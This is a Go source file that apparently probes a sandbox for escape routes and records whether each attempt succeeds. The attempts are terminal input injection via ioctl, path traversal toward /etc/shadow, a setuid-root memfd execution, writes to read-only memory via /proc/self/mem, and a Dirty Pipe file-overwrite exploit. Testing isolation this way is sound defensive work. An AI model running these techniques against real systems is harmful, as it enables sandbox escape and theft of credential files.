package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

// atStart are the descriptors that this program began with, before it opened any.
var atStart = func() string {
	var found []string
	for fd := range 1024 {
		var s unix.Stat_t
		if unix.Fstat(fd, &s) != nil {
			continue
		}
		link := make([]byte, 256)
		n, _ := unix.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd), link)
		name, _, _ := strings.Cut(string(link[:n]), ":")
		found = append(found, fmt.Sprintf("%d %s", fd, name))
	}
	return strings.Join(found, ", ")
}()

func init() {
	attempts["descriptors"] = func(facts) string { return atStart }
	attempts["terminal"] = func(facts) string {
		var outcomes []string
		for fd := uintptr(0); fd < 16; fd++ {
			for _, command := range []uintptr{unix.TIOCSTI, unix.TIOCLINUX, 1<<32 | unix.TIOCSTI} {
				outcomes = append(outcomes, call(unix.SYS_IOCTL, fd, command, text("x")))
			}
		}
		return all(outcomes...)
	}
	attempts["upwards"] = func(facts) string {
		// From every descriptor there is.
		var outcomes []string
		for fd := uintptr(0); fd < 16; fd++ {
			outcomes = append(outcomes, call(unix.SYS_OPENAT, fd, text("../../../etc/shadow"), 0), call(unix.SYS_FCHDIR, fd))
		}
		return all(outcomes...)
	}
	attempts["memfd"] = func(facts) string { return executed("status") }
	attempts["memfd that is root's"] = func(facts) string {
		return executed("status", func(fd int) { unix.Fchmod(fd, 0o6755); unix.Fchown(fd, 0, 0) })
	}
	attempts["own memory"] = func(facts) string { return ownMemory() }
	attempts["dirty pipe"] = dirtyPipe
	attempts["leases"] = func(facts) string {
		const delegation = unix.F_SETLEASE + 16
		var outcomes []string
		for _, at := range shared {
			fd, err := unix.Open(at, unix.O_RDONLY, 0)
			if err != nil {
				continue
			}
			for _, kind := range []uintptr{unix.F_RDLCK, unix.F_WRLCK} {
				outcomes = append(outcomes, call(unix.SYS_FCNTL, uintptr(fd), unix.F_SETLEASE, kind), call(unix.SYS_FCNTL, uintptr(fd), 1<<32|unix.F_SETLEASE, kind),
					call(unix.SYS_FCNTL, uintptr(fd), delegation, buffer()))
			}
			unix.Close(fd)
		}
		return all(outcomes...)
	}
	attempts["watches"] = func(facts) string {
		watcher, err := unix.InotifyInit1(0)
		if err != nil {
			return outcome(err)
		}
		defer unix.Close(watcher)
		var outcomes []string
		for _, at := range shared {
			for _, events := range []uintptr{unix.IN_ACCESS, unix.IN_OPEN, unix.IN_CLOSE_NOWRITE, unix.IN_ALL_EVENTS, 1<<32 | unix.IN_OPEN} {
				outcomes = append(outcomes, call(unix.SYS_INOTIFY_ADD_WATCH, uintptr(watcher), text(at), events))
			}
			if fd, err := unix.Open(at, unix.O_RDONLY, 0); err == nil {
				outcomes = append(outcomes, call(unix.SYS_FCNTL, uintptr(fd), unix.F_NOTIFY, 0x80000001))
				unix.Close(fd)
			}
		}
		return all(outcomes...)
	}
}

// shared is what jails have in common.
var shared = []string{"/usr", "/usr/bin", "/usr/lib", "/usr/bin/env", "/etc/ssl", "/etc/ssl/certs", "/dev/null", "/var/task", "/var/task/bootstrap"}

// executed is what this program prints when it is executed out of memory alone.
func executed(argument string, change ...func(fd int)) string {
	program, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return outcome(err)
	}
	fd, err := unix.MemfdCreate("attacker", 0)
	if err != nil {
		return outcome(err)
	}
	f := os.NewFile(uintptr(fd), "attacker")
	defer f.Close()
	if _, err := f.Write(program); err != nil {
		return outcome(err)
	}
	for _, c := range change {
		c(fd)
	}
	cmd := exec.Command("/proc/self/exe", "execveat", "3", argument)
	cmd.ExtraFiles = []*os.File{f}
	out, err := cmd.CombinedOutput()
	if err != nil {
		return err.Error() + string(out)
	}
	return strings.TrimSpace(string(out))
}

// again is what this program does when it has started itself.
func again(arguments []string) {
	switch arguments[0] {
	case "execveat":
		fd, _ := strconv.Atoi(arguments[1])
		argv := [4]uintptr{text("attacker"), text(arguments[2])}
		envp := [1]uintptr{}
		fmt.Println(call(unix.SYS_EXECVEAT, uintptr(fd), text(""), uintptr(unsafe.Pointer(&argv)), uintptr(unsafe.Pointer(&envp)), unix.AT_EMPTY_PATH))
	case "status":
		fmt.Println(status(), os.Getuid() == os.Geteuid())
	}
}

// ownMemory writes to a read-only page of the program's file by /proc/self/mem.
func ownMemory() string {
	const at = "/var/task/bootstrap"
	before, err := os.ReadFile(at)
	if err != nil {
		return outcome(err)
	}
	f, err := os.Open(at)
	if err != nil {
		return outcome(err)
	}
	defer f.Close()
	page, err := unix.Mmap(int(f.Fd()), 0, 4096, unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return outcome(err)
	}
	defer unix.Munmap(page)
	_, sharing := unix.Mmap(int(f.Fd()), 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	result := outcome(sharing) + " " + outcome(unix.Mprotect(page, unix.PROT_READ|unix.PROT_WRITE))
	if mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0); err == nil {
		mem.WriteAt([]byte("changed"), int64(uintptr(unsafe.Pointer(&page[0]))))
		mem.Close()
	} else {
		result += " " + outcome(err)
	}
	after, _ := os.ReadFile(at)
	return fmt.Sprint(result, " ", bytes.Equal(before, after))
}

// dirtyPipe merges a write into the page of a file that it may only read, on a kernel that lets it.
func dirtyPipe(facts) string {
	const at = "/var/task/bootstrap"
	before, err := os.ReadFile(at)
	if err != nil {
		return outcome(err)
	}
	fd, err := unix.Open(at, unix.O_RDONLY, 0)
	if err != nil {
		return outcome(err)
	}
	defer unix.Close(fd)
	var pipe [2]int
	if err := unix.Pipe(pipe[:]); err != nil {
		return outcome(err)
	}
	defer unix.Close(pipe[0])
	defer unix.Close(pipe[1])
	page := make([]byte, 4096)
	for range 16 {
		unix.Write(pipe[1], page)
	}
	for range 16 {
		unix.Read(pipe[0], page)
	}
	var offset int64
	if _, err := unix.Splice(fd, &offset, pipe[1], nil, 1, 0); err != nil {
		return outcome(err)
	}
	unix.Write(pipe[1], []byte("changed"))
	after, _ := os.ReadFile(at)
	return fmt.Sprint("unchanged ", bytes.Equal(before, after))
}
